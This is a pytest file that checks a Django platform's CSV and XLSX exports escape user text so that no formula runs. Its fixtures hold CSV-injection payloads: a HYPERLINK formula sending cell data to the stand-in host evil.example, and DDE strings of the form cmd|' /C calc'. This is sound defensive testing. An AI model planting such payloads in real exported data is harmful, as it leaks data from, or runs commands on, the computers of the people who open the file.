"""Text typed by users runs as no formula in the platform's spreadsheets (CSV and XLSX injection):
the contract statistics workbook, a catalogue's workbook and the audit log's CSV."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from techtransfer.achievements.catalogue_access import catalogue_entries
from techtransfer.achievements.catalogue_exports import export_xlsx
from techtransfer.achievements.tests.factories_catalogue import CatalogueEntryFactory, PublishedAchievementFactory
from techtransfer.audit.services import record_event
from techtransfer.contracts import exports as contract_exports
from techtransfer.contracts.tests.factories import registered
from techtransfer.core.choices import OrganisationStatus
from techtransfer.core.spreadsheets import FormulaSafeWriter, csv_text, without_formulas
from techtransfer.core.tests.factories import OrganisationFactory
from techtransfer.jobs.models import Job
from techtransfer.jobs.tasks import run_job

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def test_csv_text_guards_what_a_spreadsheet_would_run():
    assert [csv_text(v) for v in ["=1+1", "+86 791", "-2", "@SUM(A1)", "\tx", "\rx", "稀土", "a=b", "", 5, None]] == [
        "'=1+1", "'+86 791", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "稀土", "a=b", "", 5, None,
    ]  # fmt: skip
    buf = io.StringIO()
    FormulaSafeWriter(buf).writerows([["=cmd|' /C calc'!A0", 3, "ok"]])
    assert buf.getvalue() == "'=cmd|' /C calc'!A0,3,ok\r\n"


def test_without_formulas_keeps_the_text_as_text():
    wb = Workbook()
    ws = wb.active
    ws.append([FORMULA, "plain", 7])
    assert ws["A1"].data_type == "f"  # what openpyxl does with any text starting with "="
    saved = io.BytesIO()
    without_formulas(wb).save(saved)
    again = load_workbook(saved).active
    assert [(c.value, c.data_type) for c in again[1]] == [(FORMULA, "s"), ("plain", "s"), (7, "n")]


@pytest.mark.django_db
def test_contract_statistics_workbook_holds_no_formula(applicant_org, applicant_admin, county_reviewer):
    applicant_org.status = OrganisationStatus.VERIFIED
    applicant_org.name = "=1+2"
    applicant_org.save(update_fields=["status", "name"])
    contract = registered(applicant_org, applicant_admin, county_reviewer, name=FORMULA)
    wb = load_workbook(io.BytesIO(contract_exports.statistics_workbook("36", None, "江西省")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {FORMULA, "=1+2", contract.registration_number} <= texts


@pytest.mark.django_db
def test_catalogue_workbook_holds_no_formula():
    entry = CatalogueEntryFactory(
        achievement=PublishedAchievementFactory(name=FORMULA), note="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    entry.catalogue.title = "=TITLE()"
    entry.catalogue.save(update_fields=["title"])
    ws = load_workbook(io.BytesIO(export_xlsx(entry.catalogue, list(catalogue_entries(entry.catalogue))))).active
    assert (ws["A1"].value, ws["A1"].data_type) == ("=TITLE()", "s")
    assert (ws["B4"].value, ws["B4"].data_type) == (FORMULA, "s")
    assert (ws["I4"].value, ws["I4"].data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")


@pytest.mark.django_db
def test_audit_csv_guards_user_text(platform_admin):
    org = OrganisationFactory(name="=cmd|' /C calc'!A0")
    record_event(actor=platform_admin, action="test.formula", obj=org, organisation=org, comment="+SUM(1)")
    job = Job.objects.create(
        kind="audit.export_csv", title="t", created_by=platform_admin, params={"action": "test.formula"}
    )
    assert run_job.call(job.pk) == "succeeded"
    job.refresh_from_db()
    with job.result_file.open("rb") as f:
        rows = list(csv.reader(io.StringIO(f.read().decode("utf-8-sig"))))
    assert len(rows) == 2
    assert rows[1][2] == "'=cmd|' /C calc'!A0"  # organisation
    assert rows[1][6] == "'=cmd|' /C calc'!A0"  # object
    assert rows[1][8] == "'+SUM(1)"  # comment
